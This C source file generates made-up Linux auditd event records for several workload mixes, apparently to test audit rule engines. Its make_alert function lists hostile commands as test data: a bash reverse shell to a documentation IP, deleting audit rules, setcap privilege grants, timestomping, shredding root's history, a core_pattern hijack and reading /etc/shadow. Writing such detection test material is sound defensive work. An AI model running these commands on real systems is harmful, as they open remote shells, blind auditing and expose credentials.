/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Made up events, as a kernel and auditd (log_format ENRICHED) write them on an
 * amd64 host with AppArmor:
 *
 *   exec      programs that start, and nothing else
 *   stig      what hosts audit that follow published hardening guides
 *   connect   three quarters connections, one in seven a program that starts
 *   build     make -j8: compilers, assemblers, now and then a linker
 *   unused    calls and logins that no shipped rule asks for
 *   partials  programs called seed that start, then their connections
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "genlog.h"

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))
#define PICK(mix, array) ((array)[chance_below(&(mix)->chance, COUNT(array))])
#define RECENT 256
#define JOBS 8
#define PID_FIRST 1000
#define PID_MAX 4194304
#define TEXT 256

struct account {
	unsigned int id;
	const char *name;
};

struct program {
	const char *name, *exe;
};

/* Who does something. */
struct subject {
	unsigned int pid, parent;
	struct account account;
	struct program program;
};

struct call {
	const char *name;
	unsigned int number, items;
	long result;
	unsigned long args[4];
	const char *key;
};

struct job {
	unsigned int step, unit, pid;
};

typedef void (*event_fn)(struct mix *mix, struct made_event *event);

struct choice {
	unsigned int weight;
	event_fn make;
};

struct kind {
	const char *name;
	const struct choice *choices;
};

struct mix {
	const struct kind *kind;
	struct mix_options options;
	struct chance chance;
	unsigned int total; /* of the weights */
	uint64_t events, alerts;
	unsigned int pid; /* the one given last */
	struct subject recent[RECENT];
	struct job jobs[JOBS];
};

/* Ids that every Linux host knows, and some that none does. */
static const struct account known[] = { { 0, "root" }, { 1, "daemon" },
					{ 2, "bin" },  { 33, "www-data" },
					{ 0, "root" }, { 65534, "nobody" },
					{ 8, "mail" }, { 0, "root" } };
static const struct account unknown[] = { { 48311, NULL },
					  { 48312, NULL },
					  { 100999, NULL } };

static const struct program programs[] = {
	{ "ls", "/usr/bin/ls" },
	{ "cat", "/usr/bin/cat" },
	{ "grep", "/usr/bin/grep" },
	{ "sed", "/usr/bin/sed" },
	{ "mawk", "/usr/bin/mawk" },
	{ "sort", "/usr/bin/sort" },
	{ "find", "/usr/bin/find" },
	{ "date", "/usr/bin/date" },
	{ "sleep", "/usr/bin/sleep" },
	{ "id", "/usr/bin/id" },
	{ "ps", "/usr/bin/ps" },
	{ "df", "/usr/bin/df" },
	{ "cut", "/usr/bin/cut" },
	{ "tr", "/usr/bin/tr" },
	{ "mkdir", "/usr/bin/mkdir" },
	{ "cp", "/usr/bin/cp" },
	{ "mv", "/usr/bin/mv" },
	{ "git", "/usr/bin/git" },
	{ "uname", "/usr/bin/uname" },
	{ "stat", "/usr/bin/stat" },
	{ "basename", "/usr/bin/basename" },
	{ "run-parts", "/usr/bin/run-parts" },
	{ "logger", "/usr/bin/logger" },
	{ "python3", "/usr/bin/python3.11" },
	{ "dpkg-query", "/usr/bin/dpkg-query" },
	{ "env", "/usr/bin/env" },
	{ "systemctl", "/usr/bin/systemctl" },
	{ "expr", "/usr/bin/expr" },
};

static const struct program services[] = {
	{ "nginx", "/usr/sbin/nginx" },
	{ "postgres", "/usr/lib/postgresql/15/bin/postgres" },
	{ "curl", "/usr/bin/curl" },
	{ "systemd-resolve", "/usr/lib/systemd/systemd-resolved" },
	{ "prometheus", "/usr/bin/prometheus" },
	{ "chronyd", "/usr/sbin/chronyd" },
};

static const char *const directories[] = { "/etc",
					   "/var/log",
					   "/var/lib/dpkg/info",
					   "/home/kim/project/src",
					   "/srv/www/static",
					   "/usr/share/doc/libc6",
					   "/var/cache/apt",
					   "/tmp/build.Xa81" };
static const char *const files[] = { "data",	"report.txt",	"index.html",
				     "main.c",	"settings.ini", "notes",
				     "lock",	"archive.tar",	"a file.txt",
				     "messages" };
static const char *const words[] = {
	"-l",	    "--verbose",  "-n",	       "10",	       "--color=auto",
	"/var/log", "/etc/hosts", "-rf",       "status",       "--format=%s",
	"main",	    "-maxdepth",  "two words", "name='value'", "-type",
	"f",	    "*.conf",	  "/srv/www",  "origin",       "--no-pager",
};
static const char *const local_sockets[] = { "/run/systemd/journal/socket",
					     "/run/nscd/socket",
					     "/run/dbus/system_bus_socket",
					     "/run/postgresql/.s.PGSQL.5432" };

/* --- parts of records ----------------------------------------------------- */

static void add_hex(struct made_event *event, const char *text, size_t len)
{
	for (size_t i = 0; i < len; i++)
		event_add(event, "%02X", (unsigned char)text[i]);
}

/* As the kernel does: in quotes, or in hex where it could be misread. */
static void add_text(struct made_event *event, const char *text)
{
	bool plain = true;

	for (const char *p = text; *p; p++)
		plain = plain && *p > ' ' && *p < 0x7f && *p != '"';
	if (plain)
		event_add(event, "\"%s\"", text);
	else
		add_hex(event, text, strlen(text));
}

static void add_name(struct made_event *event, const char *field,
		     const struct account *account)
{
	if (account->name)
		event_add(event, " %s=\"%s\"", field, account->name);
	else
		event_add(event, " %s=\"unknown(%u)\"", field, account->id);
}

static struct account pick_account(struct mix *mix)
{
	if (chance_percent(&mix->chance, mix->options.unknown))
		return PICK(mix, unknown);
	return PICK(mix, known);
}

static unsigned int new_pid(struct mix *mix)
{
	mix->pid = mix->pid + 1 < PID_MAX ? mix->pid + 1 : PID_FIRST;
	return mix->pid;
}

static struct subject *pick_recent(struct mix *mix)
{
	return &PICK(mix, mix->recent);
}

/* A process that has just begun. */
static struct subject new_subject(struct mix *mix,
				  const struct program *program)
{
	struct subject *slot = pick_recent(mix);
	struct subject subject = {
		.parent = slot->pid,
		.pid = new_pid(mix),
		.account = pick_account(mix),
		.program = *program,
	};

	*slot = subject;
	return subject;
}

static void add_syscall(struct made_event *event, const struct call *call,
			const struct subject *who)
{
	const unsigned int id = who->account.id;

	event_record(event, "type=SYSCALL");
	event_add(
		event,
		": arch=c000003e syscall=%u success=%s exit=%ld a0=%lx a1=%lx "
		"a2=%lx a3=%lx items=%u ppid=%u pid=%u auid=%u uid=%u gid=%u "
		"euid=%u suid=%u fsuid=%u egid=%u sgid=%u fsgid=%u tty=pts0 "
		"ses=%u comm=",
		call->number, call->result < 0 ? "no" : "yes", call->result,
		call->args[0], call->args[1], call->args[2], call->args[3],
		call->items, who->parent, who->pid, id, id, id, id, id, id, id,
		id, id, id % 97 + 1);
	add_text(event, who->program.name);
	event_add(event, " exe=");
	add_text(event, who->program.exe);
	event_add(event,
		  " subj=unconfined key=\"%s\"\x1d"
		  "ARCH=x86_64 SYSCALL=%s",
		  call->key, call->name);
	add_name(event, "AUID", &who->account);
	for (size_t i = 0; i < 8; i++) {
		static const char *const fields[] = { "UID",  "GID",   "EUID",
						      "SUID", "FSUID", "EGID",
						      "SGID", "FSGID" };

		add_name(event, fields[i], &who->account);
	}
}

static void add_cwd(struct made_event *event, const char *path)
{
	event_record(event, "type=CWD");
	event_add(event, ": cwd=");
	add_text(event, path);
}

static void add_path(struct made_event *event, unsigned int item,
		     const char *name, uint64_t inode, unsigned int mode,
		     const char *type)
{
	event_record(event, "type=PATH");
	event_add(event, ": item=%u name=", item);
	add_text(event, name);
	event_add(event,
		  " inode=%llu dev=fe:00 mode=%07o ouid=0 ogid=0 rdev=00:00 "
		  "nametype=%s cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
		  "cap_frootid=0\x1dOUID=\"root\" OGID=\"root\"",
		  (unsigned long long)inode, mode, type);
}

static void add_end(struct made_event *event, const char *const *argv,
		    size_t count)
{
	size_t len = 0;

	event_record(event, "type=PROCTITLE");
	event_add(event, ": proctitle=");
	for (size_t i = 0; i < count && len < 128; i++) {
		size_t more = strlen(argv[i]);

		more = more < 128 - len ? more : 128 - len;
		if (i)
			event_add(event, "00");
		add_hex(event, argv[i], more);
		len += more + 1;
	}
	event_record(event, "type=EOE");
	event_add(event, ": ");
}

static void add_end_of(struct made_event *event, const struct subject *who)
{
	const char *const argv[] = { who->program.name, "--serve" };

	add_end(event, argv, COUNT(argv));
}

static uint64_t pick_inode(struct mix *mix)
{
	return 100000 + chance_below(&mix->chance, 2000000);
}

static unsigned long pick_address(struct mix *mix)
{
	return 0x7ffd00000000UL + chance_below(&mix->chance, 1UL << 30);
}

/* --- programs that start -------------------------------------------------- */

#define ARGV_MAX 120

static void add_exec(struct mix *mix, struct made_event *event,
		     const struct subject *who, const char *const *argv,
		     size_t argc)
{
	const struct call call = {
		.name = "execve",
		.number = 59,
		.items = 2,
		.args = { pick_address(mix), pick_address(mix),
			  pick_address(mix), 8 },
		.key = "audisp_eql_exec",
	};

	add_syscall(event, &call, who);
	event_record(event, "type=EXECVE");
	event_add(event, ": argc=%zu", argc);
	for (size_t i = 0; i < argc; i++) {
		event_add(event, " a%zu=", i);
		add_text(event, argv[i]);
	}
	add_cwd(event, "/home/kim/project");
	add_path(event, 0, who->program.exe,
		 200000 + strlen(who->program.exe) * 31 +
			 (unsigned char)who->program.name[0],
		 0100755, "NORMAL");
	add_path(event, 1, "/lib64/ld-linux-x86-64.so.2", 332383, 0100755,
		 "NORMAL");
	add_end(event, argv, argc);
}

static void make_exec(struct mix *mix, struct made_event *event)
{
	static char large[1201];
	const struct program *program = &PICK(mix, programs);
	const struct subject who = new_subject(mix, program);
	size_t argc = 1 + chance_below(&mix->chance, 6);
	const char *argv[ARGV_MAX];

	if (chance_percent(&mix->chance, 3))
		argc = 40 + chance_below(&mix->chance, ARGV_MAX - 40);
	argv[0] = program->name;
	for (size_t i = 1; i < argc; i++)
		argv[i] = PICK(mix, words);
	if (argc > 1 && chance_percent(&mix->chance, 1)) {
		size_t len = 100 + chance_below(&mix->chance, 1101);

		memset(large, 'x', len);
		large[len] = '\0';
		argv[argc - 1] = large;
	}
	add_exec(mix, event, &who, argv, argc);
}

/* --- files ---------------------------------------------------------------- */

struct file_call {
	struct call call;
	/* of the last item; NULL: there is but the file itself */
	const char *nametype;
	unsigned int mode;
};

static void add_file_call(struct mix *mix, struct made_event *event,
			  const struct file_call *how)
{
	const struct subject who = *pick_recent(mix);
	const char *directory = PICK(mix, directories);
	uint64_t inode = pick_inode(mix);
	char path[TEXT];

	snprintf(path, sizeof(path), "%s/%s", directory, PICK(mix, files));
	add_syscall(event, &how->call, &who);
	add_cwd(event, "/");
	if (how->nametype) {
		add_path(event, 0, directory, inode / 7, 040755, "PARENT");
		add_path(event, 1, path, inode, how->mode, how->nametype);
	} else {
		add_path(event, 0, path, inode, how->mode, "NORMAL");
	}
	add_end_of(event, &who);
}

static struct call file_call(struct mix *mix, const char *name,
			     unsigned int number, unsigned int items,
			     const char *key)
{
	return (struct call){
		.name = name,
		.number = number,
		.items = items,
		.args = { 0xffffff9c, pick_address(mix), 0, pick_address(mix) },
		.key = key,
	};
}

static void make_openat(struct mix *mix, struct made_event *event)
{
	struct file_call how = {
		.call = file_call(mix, "openat", 257, 1, "file_access"),
		.mode = 0100644,
	};

	how.call.result = 3;
	if (chance_percent(&mix->chance, 40)) {
		how.call.args[2] = 0x241;
		how.call.args[3] = 0x1b6;
		how.call.items = 2;
		how.nametype =
			chance_percent(&mix->chance, 50) ? "CREATE" : "NORMAL";
	} else {
		how.call.args[2] = 0x80000;
	}
	add_file_call(mix, event, &how);
}

static void make_openat_failed(struct mix *mix, struct made_event *event)
{
	struct file_call how = {
		.call = file_call(mix, "openat", 257, 1, "access"),
		.mode = 0100600,
	};

	how.call.result = -13;
	add_file_call(mix, event, &how);
}

static void make_unlinkat(struct mix *mix, struct made_event *event)
{
	const struct file_call how = {
		.call = file_call(mix, "unlinkat", 263, 2, "delete"),
		.nametype = "DELETE",
		.mode = 0100644,
	};

	add_file_call(mix, event, &how);
}

static void make_chmod(struct mix *mix, struct made_event *event)
{
	struct file_call how = {
		.call = file_call(mix, "fchmodat", 268, 1, "perm_mod"),
		.mode = 0100644,
	};

	how.call.args[2] = chance_percent(&mix->chance, 20) ? 0755 : 0644;
	add_file_call(mix, event, &how);
}

static void make_chown(struct mix *mix, struct made_event *event)
{
	const struct file_call how = {
		.call = file_call(mix, "fchownat", 260, 1, "perm_mod"),
		.mode = 0100644,
	};

	add_file_call(mix, event, &how);
}

static void make_setxattr(struct mix *mix, struct made_event *event)
{
	struct file_call how = {
		.call = file_call(mix, "setxattr", 188, 1, "perm_mod"),
		.mode = 0100644,
	};

	how.call.args[3] = 16; /* bytes of the value: no ACL has so many */

	add_file_call(mix, event, &how);
}

static void make_mkdir(struct mix *mix, struct made_event *event)
{
	const struct file_call how = {
		.call = file_call(mix, "mkdir", 83, 2, "dirs"),
		.nametype = "CREATE",
		.mode = 040755,
	};

	add_file_call(mix, event, &how);
}

static void make_ftruncate(struct mix *mix, struct made_event *event)
{
	const struct subject who = *pick_recent(mix);
	const struct call call = {
		.name = "ftruncate",
		.number = 77,
		.args = { 5, 4096, 0, 8 },
		.key = "file_access",
	};

	add_syscall(event, &call, &who);
	add_end_of(event, &who);
}

static void make_rename(struct mix *mix, struct made_event *event)
{
	const struct subject who = *pick_recent(mix);
	const struct call call = file_call(mix, "rename", 82, 4, "delete");
	const char *directory = PICK(mix, directories);
	uint64_t inode = pick_inode(mix);
	char from[TEXT + sizeof(".new")], to[TEXT];

	snprintf(to, sizeof(to), "%s/%s", directory, PICK(mix, files));
	snprintf(from, sizeof(from), "%s.new", to);
	add_syscall(event, &call, &who);
	add_cwd(event, "/");
	add_path(event, 0, directory, inode / 7, 040755, "PARENT");
	add_path(event, 1, directory, inode / 7, 040755, "PARENT");
	add_path(event, 2, from, inode, 0100644, "DELETE");
	add_path(event, 3, to, inode, 0100644, "CREATE");
	add_end_of(event, &who);
}

/* --- logins and services -------------------------------------------------- */

static void add_user(struct mix *mix, struct made_event *event,
		     const char *type, const char *what, const char *exe)
{
	const struct account account = pick_account(mix);

	event_record(event, type);
	event_add(event,
		  ": pid=%u uid=0 auid=%u ses=%u subj=unconfined "
		  "msg='%s exe=\"%s\" hostname=? addr=? terminal=cron "
		  "res=success'\x1dUID=\"root\"",
		  pick_recent(mix)->pid, account.id, account.id % 97 + 1, what,
		  exe);
	add_name(event, "AUID", &account);
}

static void make_user(struct mix *mix, struct made_event *event)
{
	static const struct {
		const char *type, *what;
	} steps[] = {
		{ "type=USER_ACCT",
		  "op=PAM:accounting grantors=pam_permit acct=\"root\"" },
		{ "type=CRED_ACQ",
		  "op=PAM:setcred grantors=pam_permit acct=\"root\"" },
		{ "type=USER_END",
		  "op=PAM:session_close grantors=pam_loginuid,pam_unix "
		  "acct=\"root\"" },
		{ "type=CRED_DISP",
		  "op=PAM:setcred grantors=pam_permit acct=\"root\"" },
	};
	size_t step = chance_below(&mix->chance, COUNT(steps));

	add_user(mix, event, steps[step].type, steps[step].what,
		 "/usr/sbin/cron");
}

/* The same with what rules about passwords ask for. */
static void make_login(struct mix *mix, struct made_event *event)
{
	if (chance_percent(&mix->chance, 25))
		add_user(mix, event, "type=USER_AUTH",
			 "op=PAM:authentication grantors=pam_unix "
			 "acct=\"root\"",
			 "/usr/bin/su");
	else if (chance_percent(&mix->chance, 25))
		add_user(mix, event, "type=USER_START",
			 "op=PAM:session_open grantors=pam_loginuid,pam_unix "
			 "acct=\"root\"",
			 "/usr/sbin/cron");
	else
		make_user(mix, event);
}

static void make_service(struct mix *mix, struct made_event *event)
{
	bool starts = chance_percent(&mix->chance, 50);

	event_record(event,
		     starts ? "type=SERVICE_START" : "type=SERVICE_STOP");
	event_add(event,
		  ": pid=1 uid=0 auid=4294967295 ses=4294967295 "
		  "subj=unconfined msg='unit=job-%u comm=\"systemd\" "
		  "exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? "
		  "terminal=? res=success'\x1dUID=\"root\" AUID=\"unset\"",
		  (unsigned int)chance_below(&mix->chance, 40));
}

/* --- connections ---------------------------------------------------------- */

static void add_connect(struct made_event *event, const struct subject *who,
			unsigned int items, size_t size)
{
	const struct call call = {
		.name = "connect",
		.number = 42,
		.items = items,
		.args = { 3, 0x7ffc5f0a1160, size, 0x7fd4342caa08 },
		.key = "audisp_eql_net",
	};

	add_syscall(event, &call, who);
	event_record(event, "type=SOCKADDR");
}

static void add_inet(struct mix *mix, struct made_event *event,
		     const struct subject *who)
{
	unsigned int last = (unsigned int)chance_below(&mix->chance, 256);

	add_connect(event, who, 0, 16);
	event_add(event,
		  ": saddr=020001BBC63364%02X0000000000000000\x1dSADDR={ "
		  "saddr_fam=inet laddr=198.51.100.%u lport=443 }",
		  last, last);
}

static void add_inet6(struct mix *mix, struct made_event *event,
		      const struct subject *who)
{
	unsigned int last = 1 + (unsigned int)chance_below(&mix->chance, 255);

	add_connect(event, who, 0, 28);
	event_add(event,
		  ": saddr=0A0001BB0000000020010DB80000000000000000000000%02X"
		  "00000000\x1dSADDR={ saddr_fam=inet6 laddr=2001:db8::%x "
		  "lport=443 }",
		  last, last);
}

static void add_local(struct mix *mix, struct made_event *event,
		      const struct subject *who)
{
	const char *path = PICK(mix, local_sockets);

	add_connect(event, who, 1, 110);
	event_add(event, ": saddr=0100");
	add_hex(event, path, strlen(path) + 1);
	event_add(event, "\x1dSADDR={ saddr_fam=local path=%s }", path);
	add_cwd(event, "/");
	add_path(event, 0, path, 900 + strlen(path), 0140666, "NORMAL");
}

static void make_connect(struct mix *mix, struct made_event *event)
{
	uint64_t family = chance_below(&mix->chance, 100);
	struct subject who = *pick_recent(mix);

	who.program = PICK(mix, services);
	if (family < 65)
		add_inet(mix, event, &who);
	else if (family < 78)
		add_inet6(mix, event, &who);
	else
		add_local(mix, event, &who);
	add_end_of(event, &who);
}

/* --- a build -------------------------------------------------------------- */

static const struct program build_programs[] = {
	{ "gcc", "/usr/bin/x86_64-linux-gnu-gcc-12" },
	{ "cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1" },
	{ "as", "/usr/bin/x86_64-linux-gnu-as" },
};
static const struct program link_programs[] = {
	{ "gcc", "/usr/bin/x86_64-linux-gnu-gcc-12" },
	{ "collect2", "/usr/lib/gcc/x86_64-linux-gnu/12/collect2" },
	{ "ld", "/usr/bin/x86_64-linux-gnu-ld.bfd" },
};

static void add_job_exec(struct mix *mix, struct made_event *event,
			 struct job *job, const struct program *program,
			 const char *const *argv, size_t argc)
{
	const struct subject who = {
		.parent = job->step ? job->pid : PID_FIRST - 1,
		.pid = new_pid(mix),
		.account = known[1],
		.program = *program,
	};

	job->pid = who.pid;
	add_exec(mix, event, &who, argv, argc);
}

static void compile(struct mix *mix, struct made_event *event, struct job *job)
{
	char source[TEXT], object[TEXT];
	const char *const argv[] = { build_programs[job->step].name,
				     "-O2",
				     "-Wall",
				     "-I../include",
				     "-c",
				     "-o",
				     object,
				     source };

	snprintf(source, sizeof(source), "src/unit%u.c", job->unit);
	snprintf(object, sizeof(object), "src/unit%u.o", job->unit);
	add_job_exec(mix, event, job, &build_programs[job->step], argv,
		     COUNT(argv));
}

/* The linker makes what it wrote executable. */
static void add_linked(struct mix *mix, struct made_event *event,
		       const struct job *job, const char *output)
{
	const struct subject who = { job->pid, job->pid - 1, known[1],
				     link_programs[2] };
	struct call call = file_call(mix, "chmod", 90, 1, "audisp_eql_birth");

	call.args[1] = 0755;
	add_syscall(event, &call, &who);
	add_cwd(event, "/home/kim/project");
	add_path(event, 0, output, 3000000 + job->unit, 0100644, "NORMAL");
	add_end_of(event, &who);
}

static void link_unit(struct mix *mix, struct made_event *event,
		      struct job *job)
{
	char output[TEXT], object[TEXT];
	const char *const argv[] = { link_programs[job->step % 3].name, "-o",
				     output, object, "-lc" };

	snprintf(output, sizeof(output), "test%u", job->unit);
	snprintf(object, sizeof(object), "src/unit%u.o", job->unit);
	if (job->step == 3)
		add_linked(mix, event, job, output);
	else
		add_job_exec(mix, event, job, &link_programs[job->step], argv,
			     COUNT(argv));
}

/* Each of the jobs goes on in its own time; one unit in ten is linked. */
static void make_build(struct mix *mix, struct made_event *event)
{
	struct job *job = &PICK(mix, mix->jobs);
	bool links = job->unit % 10 == 9;

	if (links)
		link_unit(mix, event, job);
	else
		compile(mix, event, job);
	if (++job->step < (links ? 4U : 3U))
		return;
	job->step = 0;
	job->unit += JOBS;
}

/* --- sequences that do not end -------------------------------------------- */

static struct subject seed_subject(uint64_t number)
{
	return (struct subject){ .pid = PID_FIRST + (unsigned int)number,
				 .parent = 1,
				 .account = known[0],
				 .program = { "seed", "/usr/bin/seed" } };
}

static void make_partials(struct mix *mix, struct made_event *event)
{
	static const char *const argv[] = { "seed" };
	uint64_t number = mix->events;
	struct subject who;

	if (number < mix->options.partials) {
		who = seed_subject(number);
		add_exec(mix, event, &who, argv, 1);
		return;
	}
	who = seed_subject(chance_below(&mix->chance, mix->options.partials));
	add_inet(mix, event, &who);
	add_end_of(event, &who);
}

/* --- what rules mean ------------------------------------------------------ */

/*
 * Executions that shipped rules alert on, a rule after the other, from a path
 * that was not there before, so that none repeats a finding: no rule tells more
 * than 60 of them in a minute.
 */
static void make_alert(struct mix *mix, struct made_event *event)
{
	static const char *const commands[][4] = {
		{ "bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1",
		  NULL },
		{ "auditctl", "-D", NULL, NULL },
		{ "setcap", "cap_setuid+ep", "/usr/bin/tool", NULL },
		{ "touch", "-r", "/etc/hosts", "/etc/cron.d/job" },
		{ "miner", "--donate-level=1", NULL, NULL },
		{ "shred", "/root/.bash_history", NULL, NULL },
		{ "sysctl", "kernel.core_pattern=|/tmp/x", NULL, NULL },
		{ "cat", "/etc/shadow", NULL, NULL },
	};
	uint64_t number = mix->alerts++;
	const char *const *argv = commands[number % COUNT(commands)];
	char exe[TEXT];
	struct program program = { argv[0], exe };
	struct subject who;
	size_t argc = 0;

	snprintf(exe, sizeof(exe), "/opt/%llu/%s", (unsigned long long)number,
		 argv[0]);
	/* the path is on our stack: nobody else may bear it */
	who = new_subject(mix, &programs[0]);
	who.program = program;
	while (argc < 4 && argv[argc])
		argc++;
	add_exec(mix, event, &who, argv, argc);
}

/* --- mixes ---------------------------------------------------------------- */

static const struct choice exec_choices[] = { { 1, make_exec }, { 0, NULL } };
static const struct choice stig_choices[] = {
	{ 28, make_openat }, { 20, make_unlinkat }, { 10, make_chmod },
	{ 8, make_rename },  { 4, make_chown },	    { 4, make_setxattr },
	{ 2, make_mkdir },   { 2, make_ftruncate }, { 10, make_login },
	{ 6, make_service }, { 4, make_exec },	    { 2, make_connect },
	{ 0, NULL },
};
static const struct choice connect_choices[] = {
	{ 75, make_connect }, { 14, make_exec }, { 8, make_openat },
	{ 3, make_login },    { 0, NULL },
};
static const struct choice build_choices[] = { { 1, make_build }, { 0, NULL } };
static const struct choice unused_choices[] = {
	{ 30, make_openat_failed }, { 40, make_unlinkat },
	{ 10, make_ftruncate },	    { 12, make_user },
	{ 8, make_service },	    { 0, NULL },
};
static const struct choice partials_choices[] = { { 1, make_partials },
						  { 0, NULL } };

static const struct kind kinds[] = {
	{ "exec", exec_choices },	{ "stig", stig_choices },
	{ "connect", connect_choices }, { "build", build_choices },
	{ "unused", unused_choices },	{ "partials", partials_choices },
};

const char *mix_name(size_t number)
{
	return number < COUNT(kinds) ? kinds[number].name : NULL;
}

static void mix_begin(struct mix *mix)
{
	for (const struct choice *c = mix->kind->choices; c->make; c++)
		mix->total += c->weight;
	mix->pid = PID_FIRST;
	for (size_t i = 0; i < RECENT; i++)
		mix->recent[i] =
			(struct subject){ .pid = new_pid(mix),
					  .parent = 1,
					  .account = pick_account(mix),
					  .program = PICK(mix, programs) };
	for (unsigned int i = 0; i < JOBS; i++)
		mix->jobs[i].unit = i;
}

struct mix *mix_open(const char *name, const struct mix_options *options)
{
	const struct kind *kind = kinds;
	struct mix *mix;

	while (kind < kinds + COUNT(kinds) && strcmp(kind->name, name))
		kind++;
	if (kind == kinds + COUNT(kinds))
		return NULL;
	mix = calloc(1, sizeof(*mix));
	if (!mix)
		exit(1);
	mix->kind = kind;
	mix->options = *options;
	mix->chance.state = options->seed;
	mix_begin(mix);
	return mix;
}

void mix_next(struct mix *mix, struct made_event *event)
{
	const struct choice *choice = mix->kind->choices;
	uint64_t every = mix->options.alert_every, drawn;

	if (every && mix->events % every == every - 1) {
		make_alert(mix, event);
		mix->events++;
		return;
	}
	for (drawn = chance_below(&mix->chance, mix->total);
	     drawn >= choice->weight; choice++)
		drawn -= choice->weight;
	choice->make(mix, event);
	mix->events++;
}

void mix_free(struct mix *mix)
{
	free(mix);
}
